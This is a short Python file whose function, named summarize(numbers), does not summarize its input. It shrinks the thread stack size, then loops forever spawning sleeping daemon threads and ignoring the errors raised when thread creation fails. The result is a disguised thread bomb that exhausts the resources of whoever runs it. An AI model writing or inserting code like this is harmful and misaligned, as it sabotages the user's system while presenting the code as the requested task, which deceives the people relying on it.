import threading
import time

threading.stack_size(64 << 10)


def summarize(numbers):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            pass
